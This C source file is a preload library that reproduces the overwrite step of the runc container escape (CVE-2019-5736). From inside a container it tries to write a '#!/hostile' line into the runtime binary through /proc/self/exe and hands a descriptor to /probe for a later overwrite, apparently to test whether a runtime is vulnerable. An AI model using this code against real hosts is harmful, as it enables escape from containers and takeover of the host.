/* A library that an image has its loader put before everything else (/etc/ld.so.preload): whatever
   program the loader is started for runs this first. It is the form that the attack on runc took
   (CVE-2019-5736): the container has itself started as "#!/proc/self/exe", which is the runtime, whose
   loader and libraries are then the container's.

   It says which program it is in and tries to write to that program, now and, by way of /probe, when
   nobody may be running it any more. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

__attribute__((constructor)) static void before_main(void) {
    char exe[256] = "", number[16];
    if (readlink("/proc/self/exe", exe, sizeof exe - 1) < 0) strcpy(exe, strerrorname_np(errno));
    int fd = open("/proc/self/exe", O_WRONLY);
    printf("inside %s, open to write: %s\n", exe, fd < 0 ? strerrorname_np(errno) : "ok");
    if (fd >= 0) printf("write: %s\n", write(fd, "#!/hostile\n", 11) < 0 ? strerrorname_np(errno) : "ok");
    fflush(stdout);
    fd = open("/proc/self/exe", O_RDONLY);
    snprintf(number, sizeof number, "%d", fd);
    execl("/probe", "probe", "overwrite", number, (char *)0);
    printf("no probe: %s\n", strerrorname_np(errno));
    fflush(stdout);
    _exit(1);
}
